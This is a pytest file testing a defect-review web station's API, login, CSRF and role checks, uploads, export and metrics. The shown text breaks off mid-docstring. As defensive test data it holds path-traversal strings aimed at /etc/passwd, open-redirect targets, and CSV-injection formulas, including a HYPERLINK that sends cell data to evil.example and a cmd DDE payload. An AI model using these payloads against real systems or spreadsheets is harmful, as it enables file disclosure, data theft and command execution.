"""The review station over HTTP (FastAPI's TestClient, no server): the line's API, the pages' forms, log-in,
roles and CSRF, served files and path traversal, upload limits, the dataset export, metrics, hostile file
names, the queue's order and filters, and the API's paging.

One station (one store, one engine) serves the whole module; each test uploads its own images (variants of
the bundled samples with one pixel changed, so that every test's parts are new to the store) and checks what
it did against the store itself, so that the tests do not depend on each other's order."""

from __future__ import annotations

import csv
import functools
import hashlib
import io
import os
import re
import struct
import time
import zipfile
import zlib
from types import SimpleNamespace

import cv2
import numpy as np
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

import inspector
from inspector.common.identity import make_identity
from inspector.engine.inspector import Inspector
from inspector.station import auth
from inspector.station.app import create_app
from inspector.station.service import UPLOAD_DIR, Station, StationSettings, parse_references
from inspector.station.verdicts import overrule_choices
from inspector.store.schema import artifacts, parts, results, reviews, users

EXAMPLE = os.path.join(os.path.dirname(os.path.abspath(inspector.__file__)), "example")
CONFIG = os.path.join(EXAMPLE, "config.yaml")
SAMPLES = os.path.join(EXAMPLE, "samples")
PASSWORDS = {
    "rita": "reviewer-pass",  # reviewer
    "rob": "reviewer-pass-2",  # reviewer
    "vic": "viewer-pass",  # viewer
    "ada": "admin-pass",  # admin
    "dora": "disabled-pass",  # reviewer, disabled by a test
    "ulla": "undo-pass",  # reviewer, whose verdicts only the undo test gives
}
ROLES = {"rita": "reviewer", "rob": "reviewer", "vic": "viewer", "ada": "admin", "dora": "reviewer",
         "ulla": "reviewer"}
CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)">')


# ----- images ---------------------------------------------------------------------------------------------
def sample(name: str) -> bytes:
    with open(os.path.join(SAMPLES, f"{name}.png"), "rb") as f:
        return f.read()


@functools.cache
def variant(name: str, k: int) -> bytes:
    """The sample ``name`` as PNG with pixel number ``k`` changed: new content, same picture to the model."""
    image = cv2.imdecode(np.frombuffer(sample(name), np.uint8), cv2.IMREAD_UNCHANGED)
    image = image.copy()
    row, col = divmod(k, image.shape[1])
    image[row, col, 0] ^= 0x55
    ok, buf = cv2.imencode(".png", image)
    assert ok
    return buf.tobytes()


def rgb(data: bytes) -> np.ndarray:
    """Decode as inspector.engine.runtime.preprocess.decode_image does (BGR -> RGB), independently of it."""
    image = cv2.imdecode(np.frombuffer(data, np.uint8), cv2.IMREAD_UNCHANGED)
    if image.ndim == 3 and image.shape[2] == 4:
        return cv2.cvtColor(image, cv2.COLOR_BGRA2RGB)
    if image.ndim == 3:
        return cv2.cvtColor(image, cv2.COLOR_BGR2RGB)
    return image


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG signature and a valid IHDR chunk declaring width x height, then a few bytes (no pixel data)."""
    body = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + body + struct.pack(">I", zlib.crc32(body))
    return b"\x89PNG\r\n\x1a\n" + chunk + b"\0" * 16


# ----- the station ----------------------------------------------------------------------------------------
@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def st(request, tmp_path_factory):
    """The module's station, once on each store backend: ``station``, ``app``, ``client`` (not logged in,
    runs the app's life) and ``out`` (the station folder)."""
    out = tmp_path_factory.mktemp("station") / "st"
    store_url = None
    if request.param == "postgresql":
        from .postgres import new_database

        store_url = new_database(request.getfixturevalue("postgres_server"))
    station = Station(StationSettings(config=CONFIG, out_dir=str(out), store_url=store_url))
    for name, password in PASSWORDS.items():
        auth.add_user(station.store, name, password, ROLES[name])
    app = create_app(station)
    extra: list[TestClient] = []
    with TestClient(app) as client:
        yield SimpleNamespace(station=station, app=app, client=client, out=str(out), extra=extra)
        for c in extra:
            c.close()


def login(st, username: str, password: str | None = None, next: str = "/queue"):
    """A new client (sharing the module's app) after POST /login; returns (client, the login response)."""
    c = TestClient(st.app)
    st.extra.append(c)
    page = c.get("/login")
    assert page.status_code == 200
    token = c.cookies.get("sise_login")
    assert token and f'name="token" value="{token}"' in page.text
    response = c.post(
        "/login",
        data={
            "username": username,
            "password": PASSWORDS[username] if password is None else password,
            "token": token,
            "next": next,
        },
        follow_redirects=False,
    )
    return c, response


@pytest.fixture(scope="module")
def session(st):
    """session(user) -> (client logged in with the session cookie, the session's CSRF token), one per user."""
    cache = {}

    def get(username: str):
        if username not in cache:
            c, response = login(st, username)
            assert response.status_code == 303, response.text
            assert c.cookies.get("sise_session")
            page = c.get("/queue")
            assert page.status_code == 200
            cache[username] = (c, CSRF_META.search(page.text).group(1))
        return cache[username]

    return get


def basic(username: str) -> tuple[str, str]:
    return (username, PASSWORDS[username])


def upload(client, name: str, data: bytes, user: str = "rita", **kw):
    return client.post(
        "/api/v1/explain", files={"image": (name, data, "image/png")}, auth=basic(user), **kw
    )


def explained(st, name: str, data: bytes) -> dict:
    """Upload ``data`` (new to the store) and return the API's body."""
    r = upload(st.client, name, data)
    assert r.status_code in (200, 201), r.text
    return r.json()


def db(st, query):
    with st.station.store.begin() as conn:
        return conn.execute(query).mappings().all()


def review_rows(st, result_id: int) -> list[dict]:
    return [dict(r) for r in db(st, sa.select(reviews).where(reviews.c.result_id == result_id).order_by(
        reviews.c.id))]


def count(st, table, *where) -> int:
    with st.station.store.begin() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(table).where(*where)).scalar_one()


def api_review(st, result_id: int, payload, user: str = "rita"):
    return st.client.post(f"/api/v1/results/{result_id}/review", json=payload, auth=basic(user))


def queue_rows(text: str) -> list[dict]:
    """The rows of a queue fragment: id, row class (reject | good | failed), predicted class."""
    rows = []
    for chunk in text.split("<tr ")[1:]:
        rid = re.search(r'data-id="(\d+)"', chunk)
        if rid is None:
            continue
        kind = re.search(r'class="(\w+)"', chunk).group(1)
        cls = re.search(r'<span class="cls">([^<]*)</span>', chunk)
        rows.append({"id": int(rid.group(1)), "kind": kind, "cls": cls.group(1) if cls else None})
    return rows


# ----- 1. upload --------------------------------------------------------------------------------------
def test_upload_explains_like_the_engine_and_serves_its_artifacts(st):
    data = sample("crack")
    r = upload(st.client, "crack.png", data)
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["state"] == "explained"
    assert body["status"] == "done"
    assert body["image_sha256"] == sha256(data)

    expected = Inspector.from_config(CONFIG).explain(rgb(data))
    classes = st.station.classes
    assert body["prediction"] == classes[expected.predicted] == "crack"
    assert list(body["scores"]) == classes
    assert body["scores"] == pytest.approx(
        {c: float(s) for c, s in zip(classes, expected.scores)}, rel=1e-5, abs=1e-6
    )
    assert body["confidence"] == pytest.approx(float(expected.scores[expected.predicted]), rel=1e-5)

    again = upload(st.client, "crack.png", data)
    assert again.status_code == 200, again.text
    assert again.json()["state"] == "done"
    assert again.json()["result_id"] == body["result_id"]
    assert count(st, results, results.c.image_sha256 == sha256(data)) == 1

    stored = {r["kind"]: r["sha256"] for r in db(st, sa.select(artifacts).where(
        artifacts.c.result_id == body["result_id"]))}
    assert "overlay" in stored
    assert set(body["artifacts"]) == set(stored)
    for kind, url in body["artifacts"].items():
        served = st.client.get(url, auth=basic("vic"))
        assert served.status_code == 200, (kind, served.text)
        assert sha256(served.content) == stored[kind], kind


# ----- 2. equal names -----------------------------------------------------------------------------------
def test_same_file_name_different_content_are_two_parts(st, session):
    first, second = variant("ok", 21), variant("scratch", 22)
    a = explained(st, "part.png", first)
    b = explained(st, "part.png", second)
    assert a["state"] == b["state"] == "explained"
    assert a["result_id"] != b["result_id"]
    assert a["image_sha256"] == sha256(first) and b["image_sha256"] == sha256(second)

    viewer, _ = session("vic")
    for rid, data in ((a["result_id"], first), (b["result_id"], second)):
        served = viewer.get(f"/parts/{rid}/original")
        assert served.status_code == 200
        assert served.content == data
    folder = os.path.join(st.out, UPLOAD_DIR)
    for data in (first, second):  # each kept under its own content's folder, with the client's name
        with open(os.path.join(folder, sha256(data), "part.png"), "rb") as f:
            assert f.read() == data
    assert st.client.get(f"/api/v1/results/{a['result_id']}", auth=basic("vic")).json()["image_sha256"] \
        == sha256(first)


# ----- 3. review via the API ----------------------------------------------------------------------------
def test_api_review_appends_history(st):
    part = explained(st, "crack-3.png", variant("crack", 31))
    rid = part["result_id"]
    assert part["prediction"] == "crack"

    r1 = api_review(st, rid, {"verdict": "overrule", "label": "ok", "comment": "dust, wiped off"}, "rita")
    assert r1.status_code == 201, r1.text
    assert r1.json()["label"] == "ok" and r1.json()["previous_label"] == "crack"
    first_row = review_rows(st, rid)
    assert len(first_row) == 1

    r2 = api_review(st, rid, {"verdict": "confirm"}, "rob")
    assert r2.status_code == 201, r2.text

    got = st.client.get(f"/api/v1/results/{rid}", auth=basic("vic"))
    assert got.status_code == 200
    history = got.json()["history"]
    got_rows = [(h["verdict"], h["previous_label"], h["label"], h["reviewer"], h["comment"]) for h in history]
    assert got_rows == [
        ("overrule", "crack", "ok", "rita", "dust, wiped off"),
        ("confirm", "ok", "crack", "rob", None),  # confirm = the model's class ("Confirm crack" on the page)
    ]
    assert history[0]["review_id"] < history[1]["review_id"]

    rows = review_rows(st, rid)
    assert len(rows) == 2
    assert rows[0] == first_row[0]  # the first verdict was not changed in place
    assert [r["reviewer"] for r in rows] == ["rita", "rob"]


def test_api_review_refuses_a_verdict_on_an_outdated_view_and_a_repeat_with_409(st, session):
    """``seen`` names the newest verdict the sender saw: another given since means 409 with that verdict and
    nothing recorded; the same verdict by the same reviewer moments later is not recorded twice (the API
    and a reloaded page alike)."""
    rid = explained(st, "crack-36.png", variant("crack", 36))["result_id"]
    first = api_review(st, rid, {"verdict": "confirm", "seen": 0}, "rita")
    assert first.status_code == 201, first.text
    stale = api_review(st, rid, {"verdict": "overrule", "label": "ok", "seen": 0}, "rob")
    assert stale.status_code == 409
    assert "rita gave a verdict (confirm -> crack) after the one you saw" in stale.json()["detail"]
    assert stale.json()["newest"]["review_id"] == first.json()["review_id"]
    again = api_review(st, rid, {"verdict": "confirm"}, "rita")
    assert again.status_code == 409 and "not recorded twice" in again.json()["detail"]
    reviewer, csrf = session("rita")
    page = reviewer.post(f"/parts/{rid}/review", data={"verdict": "confirm", "csrf_token": csrf,
                                                       "seen": str(first.json()["review_id"])},
                         follow_redirects=False)
    assert page.status_code == 303 and "not recorded twice" in reviewer.get(page.headers["location"]).text
    fresh = api_review(st, rid, {"verdict": "overrule", "label": "ok",
                                 "seen": first.json()["review_id"]}, "rob")
    assert fresh.status_code == 201 and fresh.json()["previous_label"] == "crack"
    assert [(r["reviewer"], r["verdict"]) for r in review_rows(st, rid)] == [("rita", "confirm"),
                                                                             ("rob", "overrule")]


def test_api_result_shows_its_newest_verdict(st):
    """GET /api/v1/results/{id} (and an upload of an image already reviewed) carry the part's newest verdict
    and label, as the /api/v1/results list does."""
    data = variant("crack", 35)
    part = explained(st, "crack-35.png", data)
    rid = part["result_id"]
    assert api_review(st, rid, {"verdict": "overrule", "label": "pits"}).status_code == 201
    listed = [x for x in st.client.get("/api/v1/results?limit=1000", auth=basic("vic")).json()["results"]
              if x["result_id"] == rid]
    assert (listed[0]["verdict"], listed[0]["review_label"]) == ("overrule", "pits")
    one = st.client.get(f"/api/v1/results/{rid}", auth=basic("vic")).json()
    assert (one["verdict"], one["review_label"]) == ("overrule", "pits")
    again = upload(st.client, "crack-35.png", data).json()
    assert again["state"] == "done"
    assert (again["verdict"], again["review_label"]) == ("overrule", "pits")


def test_api_review_refuses_verdicts_that_do_not_fit(st):
    crack = explained(st, "crack-4.png", variant("crack", 41))
    good = explained(st, "ok-4.png", variant("ok", 42))
    assert crack["prediction"] == "crack" and good["prediction"] == "ok"
    failed = upload(st.client, "not-an-image.png", png_header_only(20, 20) + b"station api test")
    assert failed.status_code == 422
    before = count(st, reviews)
    for rid, payload in [
        (crack["result_id"], {"verdict": "overrule"}),  # no label
        (crack["result_id"], {"verdict": "overrule", "label": "dent"}),  # not a class
        (crack["result_id"], {"verdict": "overrule", "label": "crack"}),  # what the model said
        (crack["result_id"], {"verdict": "approve"}),  # no such verdict
        (crack["result_id"], {}),
        (good["result_id"], {"verdict": "overrule_good"}),  # already good
        (failed.json()["result_id"], {"verdict": "confirm"}),  # nothing to review
    ]:
        r = api_review(st, rid, payload)
        assert r.status_code == 422, (payload, r.status_code, r.text)
    assert api_review(st, 10**6, {"verdict": "confirm"}).status_code == 404
    assert count(st, reviews) == before


def test_api_review_refuses_a_comment_that_is_not_text(st):
    """A JSON comment that is a number or a list is the client's mistake (422), not a server error."""
    part = explained(st, "crack-5.png", variant("crack", 51))
    client = TestClient(st.app, raise_server_exceptions=False)
    st.extra.append(client)
    before = count(st, reviews)
    for comment in (5, ["a"], {"a": 1}):
        r = client.post(f"/api/v1/results/{part['result_id']}/review",
                        json={"verdict": "confirm", "comment": comment}, auth=basic("rita"))
        assert r.status_code == 422, (comment, r.status_code, r.text)
    assert count(st, reviews) == before


# ----- 4. review via the page's form --------------------------------------------------------------------
def test_review_form_needs_reviewer_and_csrf(st, session):
    part = explained(st, "crack-6.png", variant("crack", 61))
    rid = part["result_id"]
    reviewer, csrf = session("rita")
    page = reviewer.get(f"/parts/{rid}")
    assert page.status_code == 200
    assert f'name="csrf_token" value="{csrf}"' in page.text

    form = {"verdict": "confirm", "comment": "looks right"}
    for bad in ({}, {"csrf_token": "wrong-" + csrf}, {"csrf_token": ""}):
        r = reviewer.post(f"/parts/{rid}/review", data={**form, **bad}, follow_redirects=False)
        assert r.status_code == 303, (bad, r.status_code)
        assert r.headers["location"].startswith(f"/parts/{rid}?")
        assert "nothing was recorded" in reviewer.get(r.headers["location"]).text  # said on the page
    assert review_rows(st, rid) == []

    viewer, viewer_csrf = session("vic")
    r = viewer.post(f"/parts/{rid}/review", data={**form, "csrf_token": viewer_csrf}, follow_redirects=False)
    assert r.status_code == 403
    r = st.client.post(f"/parts/{rid}/review", data={**form, "csrf_token": csrf}, follow_redirects=False)
    assert r.status_code == 303
    assert r.headers["location"].startswith("/login?")
    assert review_rows(st, rid) == []

    r = reviewer.post(f"/parts/{rid}/review", data={**form, "csrf_token": csrf}, follow_redirects=False)
    assert r.status_code == 303, r.text
    assert r.headers["location"].startswith("/parts/") and f"saved={rid}" in r.headers["location"]
    rows = review_rows(st, rid)
    assert [(x["verdict"], x["label"], x["previous_label"], x["reviewer"], x["note"]) for x in rows] == [
        ("confirm", "crack", "crack", "rita", "looks right")
    ]

    # a page opened before that verdict (a second tab, a second reviewer) records nothing and says so
    stale = reviewer.post(f"/parts/{rid}/review", data={"verdict": "overrule_good", "csrf_token": csrf,
                                                         "seen": "0"}, follow_redirects=False)
    assert stale.status_code == 303 and "rita gave a verdict" in reviewer.get(stale.headers["location"]).text
    assert len(review_rows(st, rid)) == 1
    # the page's own text cannot be written by a link: an unsigned message is not shown
    forged = reviewer.get(f"/parts/{rid}?error=Station+update:+press+1+on+every+part")
    assert "Station update" not in forged.text


def test_the_unreviewed_flow_goes_on_after_a_verdict(st, session):
    """Working through unreviewed parts: after a verdict the next unreviewed part opens, although the
    reviewed part has left the list."""
    first = explained(st, "crack-62.png", variant("crack", 621))["result_id"]
    second = explained(st, "crack-63.png", variant("crack", 631))["result_id"]  # newer: shown first
    reviewer, csrf = session("rita")
    r = reviewer.post(f"/parts/{second}/review", data={"verdict": "confirm", "csrf_token": csrf,
                                                       "qs": "unreviewed=1"}, follow_redirects=False)
    assert r.status_code == 303
    goes_to = int(r.headers["location"].split("/parts/")[1].split("?")[0])
    assert goes_to != second and "unreviewed=1" in r.headers["location"]
    unreviewed = [row["id"] for row in queue_rows(reviewer.get("/queue/rows?unreviewed=1").text)]
    assert goes_to in unreviewed and first in unreviewed


# ----- 5. authentication --------------------------------------------------------------------------------
def test_api_authentication_and_roles(st, session):
    assert st.client.get("/api/v1/results").status_code == 401
    assert st.client.get("/api/v1/results", auth=("rita", "not-her-password")).status_code == 401
    assert st.client.get("/api/v1/results", auth=("nobody", "reviewer-pass")).status_code == 401
    assert st.client.get("/api/v1/results", auth=basic("vic")).status_code == 200

    before = count(st, results)
    r = upload(st.client, "viewer.png", variant("pits", 71), user="vic")
    assert r.status_code == 403
    assert count(st, results) == before

    part = explained(st, "crack-7.png", variant("crack", 72))
    reviewer, csrf = session("rita")
    url = f"/api/v1/results/{part['result_id']}/review"
    assert reviewer.post(url, json={"verdict": "confirm"}).status_code == 403
    assert reviewer.post(url, json={"verdict": "confirm"}, headers={"X-CSRF-Token": "x" + csrf}).status_code \
        == 403
    assert review_rows(st, part["result_id"]) == []
    ok = reviewer.post(url, json={"verdict": "confirm"}, headers={"X-CSRF-Token": csrf})
    assert ok.status_code == 201, ok.text
    assert len(review_rows(st, part["result_id"])) == 1


def test_a_changed_password_ends_the_old_one_at_once(st):
    """HTTP Basic pairs checked lately skip scrypt: a new password must still end the old one at once."""
    auth.add_user(st.station.store, "line7", "first-password", "reviewer")
    assert st.client.get("/api/v1/results", auth=("line7", "first-password")).status_code == 200
    assert st.client.get("/api/v1/results", auth=("line7", "first-password")).status_code == 200  # cached
    auth.add_user(st.station.store, "line7", "second-password", "reviewer", update=True)
    assert st.client.get("/api/v1/results", auth=("line7", "first-password")).status_code == 401
    assert st.client.get("/api/v1/results", auth=("line7", "second-password")).status_code == 200
    assert st.client.get("/api/v1/results", auth=("line7", "wrong-password")).status_code == 401


def test_disabled_user_cannot_log_in(st):
    c, r = login(st, "dora")
    assert r.status_code == 303 and c.cookies.get("sise_session")
    assert c.get("/queue", follow_redirects=False).status_code == 200

    auth.disable_user(st.station.store, "dora")
    moved = c.get("/queue", follow_redirects=False)  # the open session ends with the user
    assert moved.status_code == 303 and moved.headers["location"].startswith("/login")
    again, r = login(st, "dora")
    assert r.status_code == 303
    assert r.headers["location"].startswith("/login?") and "error" in r.headers["location"]
    assert not again.cookies.get("sise_session")
    assert st.client.get("/api/v1/results", auth=basic("dora")).status_code == 401


def test_passwords_are_hashed(st):
    for row in db(st, sa.select(users.c.username, users.c.password_hash)
                  .where(users.c.username.in_(list(PASSWORDS)))):
        assert row["password_hash"].startswith("scrypt$")
        assert PASSWORDS[row["username"]] not in row["password_hash"]
        assert PASSWORDS[row["username"]].encode().hex() not in row["password_hash"]
    hashes = [r["password_hash"] for r in db(st, sa.select(users.c.password_hash))]
    assert len(set(hashes)) == len(hashes)


@pytest.mark.parametrize("target", ["//evil.example", "//evil.example/queue", "https://evil.example/",
                                    "/\\evil.example"])
def test_login_never_sends_offsite(st, target):
    c, r = login(st, "vic", next=target)
    assert r.status_code == 303
    assert r.headers["location"] == "/queue"
    assert c.cookies.get("sise_session")


def test_login_needs_the_form_token(st):
    c = TestClient(st.app)
    st.extra.append(c)
    c.get("/login")
    r = c.post("/login", data={"username": "vic", "password": PASSWORDS["vic"], "token": "forged"},
               follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/login?")
    assert not c.cookies.get("sise_session")


# ----- 6. traversal -------------------------------------------------------------------------------------
def test_artifact_paths_cannot_leave_the_station(st, session):
    part = explained(st, "crack-8.png", variant("crack", 81))
    rid = part["result_id"]
    viewer, _ = session("vic")
    for url in (
        f"/artifacts/{rid}/../../etc/passwd",
        f"/artifacts/{rid}/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        f"/artifacts/{rid}/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        f"/artifacts/{rid}/passwd",
        "/artifacts/999999/overlay",
    ):
        r = viewer.get(url)
        assert r.status_code == 404, (url, r.status_code)
        assert b"root:" not in r.content
    assert viewer.get(f"/artifacts/{rid}/overlay").status_code == 200

    link = os.path.join(st.out, "evil-link")
    os.symlink("/etc/passwd", link)
    with st.station.store.begin() as conn:
        for kind, path in (("overlay", "../../../../etc/passwd"), ("layers", "/etc/passwd"),
                           ("npz", "evil-link"), ("thumb", "evil-link")):
            conn.execute(sa.update(artifacts).where(artifacts.c.result_id == rid, artifacts.c.kind == kind)
                         .values(path=path))
    for url in (f"/artifacts/{rid}/overlay", f"/artifacts/{rid}/layers", f"/artifacts/{rid}/npz",
                f"/parts/{rid}/picture?what=overlay&size=full",
                f"/parts/{rid}/picture?what=overlay&size=thumb"):
        r = viewer.get(url)
        assert r.status_code == 404, (url, r.status_code)
        assert b"root:" not in r.content


# ----- 7. upload limits ---------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def small(st, tmp_path_factory):
    """A second station (same engine) that takes uploads of at most 10 000 bytes."""
    out = tmp_path_factory.mktemp("small") / "st"
    station = Station(StationSettings(config=CONFIG, out_dir=str(out), max_upload_bytes=10_000),
                      insp=st.station.insp)
    auth.add_user(station.store, "rita", PASSWORDS["rita"], "reviewer")
    with TestClient(create_app(station)) as client:
        yield SimpleNamespace(station=station, client=client, out=str(out))


def _stored(small) -> tuple[int, list[str]]:
    with small.station.store.begin() as conn:
        n = conn.execute(sa.select(sa.func.count()).select_from(results)).scalar_one()
    return n, sorted(os.listdir(os.path.join(small.out, UPLOAD_DIR)))


def test_upload_limits(small):
    rng = np.random.default_rng(7)
    noise = cv2.imencode(".png", rng.integers(0, 256, (256, 256, 3), dtype=np.uint8))[1].tobytes()
    assert 10_000 < len(sample("crack")) < 10_000 + 64 * 1024 < len(noise)
    bomb = png_header_only(100_000, 100_000)
    assert 100_000 * 100_000 > small.station.config.preprocess.max_pixels

    empty = _stored(small)
    for name, data in (("crack.png", sample("crack")), ("noise.png", noise), ("bomb.png", bomb)):
        r = upload(small.client, name, data)
        assert r.status_code == 413, (name, r.status_code, r.text)
        assert _stored(small) == empty, name
    assert "max_pixels" in r.json()["detail"]

    r = upload(small.client, "empty.png", b"")
    assert r.status_code == 422
    assert _stored(small) == empty

    for name, data in (("hello.png", b"hello"), ("tiny.jp2", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\0" * 64),
                       ("anim.gif", b"GIF89a" + b"\0" * 64)):  # sizes no header check can read: refused
        r = upload(small.client, name, data)
        assert r.status_code == 415, (name, r.text)
        assert _stored(small) == empty, name

    truncated = png_header_only(16, 16)  # a PNG header of a small image, and no pixels
    r = upload(small.client, "cut.png", truncated)
    assert r.status_code == 422, r.text
    assert r.json()["status"] == "failed" and r.json()["state"] == "failed"
    with small.station.store.begin() as conn:
        rows = conn.execute(
            sa.select(results.c.id, results.c.status, results.c.error, results.c.image_sha256)
        ).mappings().all()
    assert len(rows) == 1
    assert rows[0]["id"] == r.json()["result_id"]
    assert rows[0]["status"] == "failed" and rows[0]["image_sha256"] == sha256(truncated)
    assert "not a readable image" in rows[0]["error"]


# ----- 8. export ----------------------------------------------------------------------------------------
def test_export_holds_reviewed_parts_by_label(st, session):
    data = variant("crack", 91)
    part = explained(st, "lot 9 crack.png", data)
    assert part["prediction"] == "crack"
    r = api_review(st, part["result_id"], {"verdict": "overrule_good", "comment": "no crack"})
    assert r.status_code == 201, r.text
    unsure = explained(st, "pits-9.png", variant("pits", 92))
    assert api_review(st, unsure["result_id"], {"verdict": "confirm"}).status_code == 201
    assert api_review(st, unsure["result_id"], {"verdict": "inconclusive"}, "rob").status_code == 201

    admin, _ = session("ada")
    r = admin.get("/export.zip")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/zip"
    zf = zipfile.ZipFile(io.BytesIO(r.content))
    names = zf.namelist()
    top = names[0].split("/")[0]
    assert top.startswith("sise-reviewed-") and all(n.startswith(top + "/") for n in names)

    mine = [n for n in names if n.startswith(f"{top}/images/ok/") and os.path.basename(n).startswith(
        sha256(data)[:16])]
    assert len(mine) == 1 and mine[0].endswith(".png")
    assert zf.read(mine[0]) == data

    labels = list(csv.DictReader(io.StringIO(zf.read(f"{top}/labels.csv").decode())))
    row = [x for x in labels if x["image_sha256"] == sha256(data)]
    assert len(row) == 1
    assert row[0]["file"] == mine[0][len(top) + 1:]
    assert (row[0]["model_label"], row[0]["reviewer_label"], row[0]["verdict"], row[0]["reviewer"],
            row[0]["comment"]) == ("crack", "ok", "overrule", "rita", "no crack")

    assert not [x for x in labels if x["image_sha256"] == unsure["image_sha256"]]
    assert not [n for n in names if sha256(variant("pits", 92))[:16] in n]
    assert len([n for n in names if not n.endswith("labels.csv")]) == len(labels)


FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"details")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
            "@SUM(1,2)", "-2+3", "\tSUM(1,2)", "\r=1+1")


def test_comments_a_spreadsheet_would_run_are_neutralised_in_the_export(st, session):
    """A reviewer's comment that begins like a formula (=, +, -, @, tab, carriage return) is written into
    labels.csv with a leading apostrophe, so a spreadsheet shows it as text (OWASP's CSV injection)."""
    parts = {}
    for k, comment in enumerate(FORMULAS):
        part = explained(st, f"formula-{k}.png", variant("scratch", 930 + k))
        verdict = {"verdict": "confirm", "comment": comment}
        assert api_review(st, part["result_id"], verdict).status_code == 201
        parts[part["image_sha256"]] = comment
    admin, _ = session("ada")
    zf = zipfile.ZipFile(io.BytesIO(admin.get("/export.zip").content))
    text = zf.read(next(n for n in zf.namelist() if n.endswith("/labels.csv"))).decode()
    rows = {r["image_sha256"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for sha, comment in parts.items():
        stored = comment.strip()  # the station keeps comments without surrounding white space
        expected = "'" + stored if stored.startswith(("=", "+", "-", "@")) else stored
        assert rows[sha]["comment"] == expected, (comment, rows[sha]["comment"])
    assert all(not r["comment"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values())


def test_export_needs_admin(st, session):
    reviewer, _ = session("rita")
    assert reviewer.get("/export.zip", follow_redirects=False).status_code == 403
    assert st.client.get("/export.zip", auth=basic("rita"), follow_redirects=False).status_code == 403
    r = st.client.get("/export.zip", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/login?")


# ----- 9. metrics ---------------------------------------------------------------------------------------
PROM_LINE = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[a-zA-Z_][a-zA-Z0-9_]*=\"[^\"]*\"\})? "
                       r"(-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?|NaN|[+-]Inf)$")


def metrics(st) -> dict[str, float]:
    r = st.client.get("/metrics")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/plain")
    values = {}
    for line in r.text.splitlines():
        if not line or line.startswith(("# HELP ", "# TYPE ")):
            continue
        assert PROM_LINE.match(line), line
        name, value = line.rsplit(" ", 1)
        values[name] = float(value)
    return values


def test_metrics_match_the_store(st, session):
    before = metrics(st)
    explained(st, "inclusion-10.png", variant("inclusion", 101))
    m = metrics(st)
    assert m["sise_parts_explained_total"] == before["sise_parts_explained_total"] + 1

    run = st.station.job.run_id
    done = count(st, results, results.c.run_id == run, results.c.status == "done")
    failed = count(st, results, results.c.run_id == run, results.c.status == "failed")
    assert m["sise_parts_explained_total"] == done
    assert m["sise_explain_failures_total"] == failed
    with st.station.store.begin() as conn:
        unreviewed = conn.execute(sa.text(
            "SELECT count(*) FROM results WHERE status = 'done' "
            "AND id NOT IN (SELECT result_id FROM reviews)")).scalar_one()
    assert m["sise_unreviewed_parts"] == unreviewed
    assert m["sise_unreviewed_parts"] == before["sise_unreviewed_parts"] + 1
    assert m['sise_results{status="done"}'] == count(st, results, results.c.status == "done")

    assert m["sise_explain_seconds_count"] == done
    assert m['sise_explain_seconds_bucket{le="+Inf"}'] == done
    buckets = [v for k, v in m.items() if k.startswith("sise_explain_seconds_bucket")]
    assert buckets == sorted(buckets)
    assert m["sise_explain_seconds_sum"] > 0
    assert m["sise_queue_depth"] == 0
    # the counters are this process's: its start time says from when
    assert m["process_start_time_seconds"] == pytest.approx(st.station.metrics.started, abs=1e-3)
    assert 0 < time.time() - m["process_start_time_seconds"] < 24 * 3600


def test_key_3_offers_the_likeliest_other_defect_first_and_a_good_part_counts_no_regions(st, session):
    """The overrule list: every class but the predicted one, by the model's score, the good class that key
    2 gives last (it used to come first, so 3 did what 2 does); a part predicted good shows no region
    count beside 'not drawn'."""
    assert overrule_choices("crack", [("ok", 0.3), ("crack", 0.5), ("pits", 0.05), ("stain", 0.15)],
                            ["ok", "crack", "pits", "stain"], ["ok"]) == ["stain", "pits", "ok"]
    assert overrule_choices("ok", [("ok", 0.9), ("crack", 0.02), ("pits", 0.08)], ["ok", "crack", "pits"],
                            ["ok"]) == ["pits", "crack"]
    assert overrule_choices("1", [], ["0", "1", "2"], []) == ["0", "2"]
    viewer, _ = session("rita")
    part = explained(st, "crack-77.png", variant("crack", 771))
    html = viewer.get(f"/parts/{part['result_id']}").text
    offered = re.findall(r'<option value="([^"]+)">', html)
    scores = part["scores"]  # class -> score
    others = [c for c in offered if c not in st.station.good_classes]
    assert offered[-1] in st.station.good_classes and others == sorted(others, key=lambda c: -scores[c])
    good = explained(st, "ok-77.png", variant("ok", 772))
    assert good["prediction"] in st.station.good_classes
    html = viewer.get(f"/parts/{good['result_id']}").text
    assert "Regions of evidence</h2>" in html and "neither drawn nor counted" in html
    # the queue agrees: no region count for the good part; a failed part is not offered for review
    failed = upload(st.client, "broken-77.png", png_header_only(20, 20) + b"key 3 test").json()["result_id"]
    rows = viewer.get("/queue/rows?order=newest").text
    good_row = rows.split(f'data-id="{good["result_id"]}"')[1].split("</tr>")[0]
    part_row = rows.split(f'data-id="{part["result_id"]}"')[1].split("</tr>")[0]
    good_cells, part_cells = (re.findall(r'<td class="num">([^<]*)</td>', r) for r in (good_row, part_row))
    assert good_cells[1] == "" and part_cells[1] == str(len(part["regions"]))  # (confidence, regions)
    failed_row = rows.split(f'data-id="{failed}"')[1].split("</tr>")[0]
    assert "failed: to acknowledge" in failed_row and "to review" not in failed_row


def test_bulk_confirm_gives_each_listed_part_its_own_verdict_and_skips_one_reviewed_meanwhile(st, session):
    """The bulk page lists unreviewed parts of one predicted class above a confidence; confirming needs
    the 'I have looked' tick and the page's CSRF token; each part gets its own confirm row naming the
